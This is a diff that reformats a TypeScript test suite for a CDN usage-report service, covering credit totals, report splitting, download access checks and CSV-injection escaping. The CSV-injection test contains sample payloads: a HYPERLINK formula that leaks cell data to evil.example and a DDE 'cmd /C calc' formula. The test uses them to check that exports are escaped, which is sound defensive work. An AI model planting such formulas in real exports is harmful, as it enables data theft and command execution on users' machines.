@@ -27,7 +27,13 @@ function event(source: () => string, timestamp: string, fields: Partial<UsageEve
 // video encoding 20000 per second; cache read 100; origin fetch 200 ("other", only in the total);
 // delivery bytes / 2000; storage: distinct origin images' bytes / 50000 per day.
 const ledger = () => [
-  event(() => photos, "2024-02-29T10:00:00Z", { path: "/a.jpg?w=100", bytes: 2_000_000, render_class: "standard", origin_bytes: 5_000_000, response_ms: 100 }),
+  event(() => photos, "2024-02-29T10:00:00Z", {
+    path: "/a.jpg?w=100",
+    bytes: 2_000_000,
+    render_class: "standard",
+    origin_bytes: 5_000_000,
+    response_ms: 100,
+  }),
   event(() => photos, "2024-03-01T09:00:00Z", {
     path: "/a.jpg?w=200",
     bytes: 1_000_000,
@@ -37,10 +43,28 @@ const ledger = () => [
     referer: "https://shop.example.com/",
     user_agent: "UA1",
   }),
-  event(() => photos, "2024-03-01T09:30:00Z", { path: "/a.jpg?w=200", bytes: 1_000_000, cache_hit: true, render_class: "advanced", response_ms: 10 }),
+  event(() => photos, "2024-03-01T09:30:00Z", {
+    path: "/a.jpg?w=200",
+    bytes: 1_000_000,
+    cache_hit: true,
+    render_class: "advanced",
+    response_ms: 10,
+  }),
   event(() => photos, "2024-03-01T10:00:00Z", { path: "/missing.jpg", status: 404, render_class: "none", response_ms: 30 }),
-  event(() => archive, "2024-03-01T12:00:00Z", { path: "/c.jpg", bytes: 4_000_000, render_class: "specialized", origin_bytes: 2_000_000, response_ms: 300 }),
-  event(() => photos, "2024-03-02T08:00:00Z", { path: "/b.jpg", bytes: 500_000, render_class: "premium", origin_bytes: 1_000_000, response_ms: 200 }),
+  event(() => archive, "2024-03-01T12:00:00Z", {
+    path: "/c.jpg",
+    bytes: 4_000_000,
+    render_class: "specialized",
+    origin_bytes: 2_000_000,
+    response_ms: 300,
+  }),
+  event(() => photos, "2024-03-02T08:00:00Z", {
+    path: "/b.jpg",
+    bytes: 500_000,
+    render_class: "premium",
+    origin_bytes: 1_000_000,
+    response_ms: 200,
+  }),
   event(() => photos, "2024-03-02T08:05:00Z", {
     path: "/v.mp4",
     bytes: 3_000_000,
@@ -49,7 +73,14 @@ const ledger = () => [
     origin_bytes: 20_000_000,
     response_ms: 900,
   }),
-  event(() => archive, "2024-03-02T13:00:00Z", { path: "/c.jpg", status: 403, render_class: "none", response_ms: 5, referer: "https://evil.example/", user_agent: "bot" }),
+  event(() => archive, "2024-03-02T13:00:00Z", {
+    path: "/c.jpg",
+    status: 403,
+    render_class: "none",
+    response_ms: 5,
+    referer: "https://evil.example/",
+    user_agent: "bot",
+  }),
 ];
 
 async function createSource(name: string): Promise<string> {
@@ -101,8 +132,15 @@ beforeAll(async () => {
   server = await startTestServer({ now: () => clock });
   key = server.accountKey(["Analytics"]);
   photos = await createSource("Photos");
-  archive = await createSource("Archive, old \"2019\"");
-  expect(importUsage(server.db, ledger().map((e) => JSON.stringify(e)).join("\n"))).toBe(8);
+  archive = await createSource('Archive, old "2019"');
+  expect(
+    importUsage(
+      server.db,
+      ledger()
+        .map((e) => JSON.stringify(e))
+        .join("\n"),
+    ),
+  ).toBe(8);
   for (const date of ["2024-02-29", "2024-03-01", "2024-03-02"]) generate(date);
 });
 afterAll(() => server.close());
@@ -145,7 +183,11 @@ describe("report generation", () => {
       cache_reads_credits: "0.000100",
     });
     // 10000 specialized + 200 origin fetch + 2000 delivery (4 MB) + 40 storage (2 MB)
-    expect(row[archive]).toMatchObject({ source_name: 'Archive, old "2019"', total_credits: "0.012240", specialized_transformations_credits: "0.010000" });
+    expect(row[archive]).toMatchObject({
+      source_name: 'Archive, old "2019"',
+      total_credits: "0.012240",
+      specialized_transformations_credits: "0.010000",
+    });
   });
 
   it("total_credits includes the unlisted category, so it exceeds the sum of the listed columns", async () => {
@@ -157,7 +199,11 @@ describe("report generation", () => {
     }
     const row = bySource(rows);
     // 5000 premium + 200000 video (10 s) + 2 x 200 origin fetches + 1750 delivery + 420 storage
-    expect(row[photos]).toMatchObject({ total_credits: "0.207570", premium_video_encoding_seconds_credits: "0.200000", premium_renders_credits: "0.005000" });
+    expect(row[photos]).toMatchObject({
+      total_credits: "0.207570",
+      premium_video_encoding_seconds_credits: "0.200000",
+      premium_renders_credits: "0.005000",
+    });
     expect(Number(row[photos]!.total_credits)).toBeGreaterThan(0.005 + 0.2 + 0.00175 + 0.00042);
     // A Source whose only request failed has a row of zeros.
     expect(row[archive]!.total_credits).toBe("0.000000");
@@ -169,13 +215,31 @@ describe("report generation", () => {
     const first = bySource((await rowsOf("credit_analytics_mtd", "2024-03-01")).rows);
     expect(first[photos]!.total_credits).toBe("0.003400"); // the 1st alone: February is not carried over
     const second = bySource((await rowsOf("credit_analytics_mtd", "2024-03-02")).rows);
-    expect(second[photos]).toMatchObject({ total_credits: "0.210970", advanced_renders_credits: "0.002000", premium_renders_credits: "0.005000", storage_credits: "0.000520" });
+    expect(second[photos]).toMatchObject({
+      total_credits: "0.210970",
+      advanced_renders_credits: "0.002000",
+      premium_renders_credits: "0.005000",
+      storage_credits: "0.000520",
+    });
     expect(second[archive]!.total_credits).toBe("0.012240");
   });
 
   it("cdn_logs: one row per request in time order, blank referer and user agent when none was sent", async () => {
     const { header, rows } = await rowsOf("cdn_logs", "2024-03-01");
-    expect(header).toEqual(["timestamp", "source_id", "source_name", "path", "origin_image", "status", "bytes", "cache", "response_ms", "render_class", "referer", "user_agent"]);
+    expect(header).toEqual([
+      "timestamp",
+      "source_id",
+      "source_name",
+      "path",
+      "origin_image",
+      "status",
+      "bytes",
+      "cache",
+      "response_ms",
+      "render_class",
+      "referer",
+      "user_agent",
+    ]);
     expect(rows.map((r) => [r.timestamp, r.path, r.status, r.cache])).toEqual([
       ["2024-03-01T09:00:00.000Z", "/a.jpg?w=200", "200", "MISS"],
       ["2024-03-01T09:30:00.000Z", "/a.jpg?w=200", "200", "HIT"],
@@ -190,9 +254,21 @@ describe("report generation", () => {
     const { rows } = await rowsOf("image_analytics", "2024-03-02");
     const of = (source: string, image: string) => rows.find((r) => r.source_id === source && r.origin_image === image);
     expect(rows).toHaveLength(5);
-    expect(of(photos, "/a.jpg")).toMatchObject({ total_requests: "2", bandwidth_bytes: "2000000", cache_hits: "1", cache_misses: "1", errors_4xx: "0", avg_response_ms: "65.0" });
+    expect(of(photos, "/a.jpg")).toMatchObject({
+      total_requests: "2",
+      bandwidth_bytes: "2000000",
+      cache_hits: "1",
+      cache_misses: "1",
+      errors_4xx: "0",
+      avg_response_ms: "65.0",
+    });
     expect(of(photos, "/missing.jpg")).toMatchObject({ total_requests: "1", errors_4xx: "1" });
-    expect(of(archive, "/c.jpg")).toMatchObject({ total_requests: "2", bandwidth_bytes: "4000000", errors_4xx: "1", avg_response_ms: "152.5" });
+    expect(of(archive, "/c.jpg")).toMatchObject({
+      total_requests: "2",
+      bandwidth_bytes: "4000000",
+      errors_4xx: "1",
+      avg_response_ms: "152.5",
+    });
   });
 
   it("mild_errors: the day's 4xx per image and status", async () => {
@@ -243,7 +319,12 @@ describe("report generation", () => {
   it("splits a report above the file size limit, each file with its header and within the limit", async () => {
     // 300 events on one day, for a cdn_logs report of ~300 rows.
     const many = Array.from({ length: 300 }, (_, i) =>
-      JSON.stringify(event(() => photos, new Date(Date.parse("2024-02-20T00:00:00Z") + i * 60_000).toISOString(), { path: `/img-${i}.jpg?w=${i}`, user_agent: `agent ${i * 7919}` })),
+      JSON.stringify(
+        event(() => photos, new Date(Date.parse("2024-02-20T00:00:00Z") + i * 60_000).toISOString(), {
+          path: `/img-${i}.jpg?w=${i}`,
+          user_agent: `agent ${i * 7919}`,
+        }),
+      ),
     );
     importUsage(server.db, many.join("\n"));
     const limit = 2_000;
@@ -274,7 +355,9 @@ describe("report downloads", () => {
     const url = report.attributes.files[0];
     expect((await download(url, server.accountKey(["Sources"]))).status).toBe(403);
     expect((await download(url, server.accountKey(["Analytics"], "someone-else"))).status).toBe(404);
-    expect((await apiRequest(`${server.url}/api/v1/reports/${report.id}`, { key: server.accountKey(["Analytics"], "someone-else") })).status).toBe(404);
+    expect(
+      (await apiRequest(`${server.url}/api/v1/reports/${report.id}`, { key: server.accountKey(["Analytics"], "someone-else") })).status,
+    ).toBe(404);
     expect((await fetch(url)).status).toBe(401);
     expect((await download(url.replace(/\/1$/, "/9"))).status).toBe(404);
     expect((await download(url.replace(/\/1$/, "/x"))).status).toBe(404);
@@ -286,7 +369,13 @@ describe("CSV injection", () => {
     const formula = await createSource('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
     const day = "2024-02-21";
     const lines = [
-      event(() => formula, `${day}T10:00:00Z`, { path: "/x.jpg", status: 404, render_class: "none", referer: "@SUM(1+1)*cmd|' /C calc'!A0", user_agent: "+1+1" }),
+      event(() => formula, `${day}T10:00:00Z`, {
+        path: "/x.jpg",
+        status: 404,
+        render_class: "none",
+        referer: "@SUM(1+1)*cmd|' /C calc'!A0",
+        user_agent: "+1+1",
+      }),
       event(() => formula, `${day}T11:00:00Z`, { path: "/y.jpg", referer: "-2+3", user_agent: "\tTAB" }),
     ];
     expect(importUsage(server.db, lines.map((e) => JSON.stringify(e)).join("\n"))).toBe(2);
@@ -299,7 +388,12 @@ describe("CSV injection", () => {
     // Numbers are data: a response time or a byte count is never prefixed.
     expect(logs.every((r) => /^\d+$/.test(r.bytes!) && /^\d+$/.test(r.response_ms!))).toBe(true);
     const errors = (await rowsOf("mild_errors", day)).rows.filter((r) => r.source_id === formula);
-    expect(errors).toEqual([expect.objectContaining({ source_name: `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, last_referer: "'@SUM(1+1)*cmd|' /C calc'!A0" })]);
+    expect(errors).toEqual([
+      expect.objectContaining({
+        source_name: `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
+        last_referer: "'@SUM(1+1)*cmd|' /C calc'!A0",
+      }),
+    ]);
   });
 });
 
